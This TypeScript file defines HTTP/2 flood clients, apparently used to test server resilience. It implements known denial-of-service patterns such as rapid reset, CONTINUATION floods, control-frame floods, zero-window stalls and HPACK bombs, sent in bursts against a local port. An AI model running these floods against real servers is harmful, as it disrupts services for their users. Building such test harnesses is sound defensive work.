// Clients that flood an HTTP/2 server, by the kind of it: what each says over and over. For tests and benches.

import { connect } from 'node:net';
import {
  block,
  data,
  endHeaders,
  endStream,
  frame,
  headers,
  ping,
  reset,
  settings,
  type,
  uint32,
  windowUpdate,
} from './http2-frames.ts';

export interface Flood {
  readonly name: string;
  /** Round number `index`, from 0; streams are its own. */
  readonly say: (index: number) => Buffer;
  /** Reads nothing of what comes back. */
  readonly deaf?: true;
}

const request = (method: string): Buffer =>
  block(
    [':method', method],
    [':scheme', 'http'],
    [':authority', 'ledger'],
    [':path', '/accounts/12345/balance'],
  );
const get = request('GET');
const post = request('POST');
const id = (index: number): number => 1 + 2 * index;
const open = (index: number): Buffer => headers(id(index), endHeaders, post);
const nothing = Buffer.alloc(0);
const both = (...parts: readonly Buffer[]): Buffer => Buffer.concat(parts);

export const floods: readonly Flood[] = [
  { name: 'rapid reset', say: (index) => both(open(index), reset(id(index), 8)) },
  { name: 'made you reset', say: (index) => both(open(index), windowUpdate(id(index), 0)) },
  {
    name: 'CONTINUATION',
    say: (index) =>
      index === 0 ? headers(1, 0, get) : frame(type.continuation, 0, 1, block(['x-a', 'v'.repeat(1000)])),
  },
  { name: 'SETTINGS', say: () => settings([4, 65_535]) },
  { name: 'PING', say: () => ping, deaf: true },
  { name: 'PRIORITY', say: () => frame(type.priority, 0, 1, [...uint32(3), 1]) },
  { name: 'WINDOW_UPDATE', say: () => windowUpdate(0, 1) },
  { name: 'empty DATA', say: (index) => (index === 0 ? open(0) : data(1, '')) },
  { name: 'unknown frames', say: () => frame(0x60, 0, 0, [1]) },
  {
    name: 'requests without reading',
    say: (index) => headers(id(index), endHeaders | endStream, get),
    deaf: true,
  },
  {
    name: 'zero window',
    say: (index) =>
      both(index === 0 ? settings([4, 0]) : nothing, headers(id(index), endHeaders | endStream, get)),
  },
  {
    name: 'HPACK bombs',
    say: (index) =>
      headers(
        id(index),
        endHeaders | endStream,
        both(
          get,
          Buffer.of(0x40, 1, 97, 0x7f, 0xa1, 0x1e),
          Buffer.alloc(4000, 98),
          Buffer.alloc(12_000, 0xbe),
        ),
      ),
  },
];

/** Rounds that are written at once. */
const burst = 500;

/** Floods until the server ends the connection, or `stop` is called. */
export function startFlood(flood: Flood, port: number): { readonly ended: Promise<void>; stop(): void } {
  const socket = connect({ port, host: '127.0.0.1' });
  let index = 0;
  const say = (): void => {
    const rounds = Array.from({ length: burst }, () => flood.say(index++));
    if (socket.write(Buffer.concat(rounds))) setImmediate(say);
  };
  socket.on('drain', say);
  socket.on('error', () => {});
  socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
  socket.write(settings());
  if (flood.deaf) socket.pause();
  else socket.resume();
  say();
  const ended = new Promise<void>((done) => {
    socket.on('close', () => done());
  });
  return { ended, stop: () => void socket.destroy() };
}
